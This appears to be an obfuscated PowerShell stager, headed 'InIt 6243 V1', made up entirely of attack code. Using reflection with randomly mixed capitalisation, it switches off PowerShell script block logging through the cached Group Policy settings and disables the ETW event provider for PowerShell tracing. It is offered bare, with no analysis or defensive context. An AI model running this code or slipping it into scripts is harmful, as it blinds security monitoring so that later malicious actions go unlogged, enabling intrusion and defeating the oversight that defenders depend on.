# InIt 6243 V1
$SEtTings = [reF].asSeMBly.gEtTyPe('System.Management.Automation.Utils').GetFIeLd('cachedGroupPolicySettings','NonPublic,Static').GeTvalUe($nUlL)
$SEttIngs['HKEY_LOCAL_MACHINE\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging']['EnableScriptBlockLogging'] = 0
[RefLeCTIoN.ASsEMBLy]::lOADwIThpartIALnAME('System.Core').gettYPe('System.Diagnostics.Eventing.EventProvider').gEtFiElD('m_enabled','NonPublic,Instance').sEtVaLuE([reF].AssEmblY.geTtyPE('System.Management.Automation.Tracing.PSEtwLogProvider').GETFiELd('etwProvider','NonPublic,Static').GEtvAlUe($nULl),0)
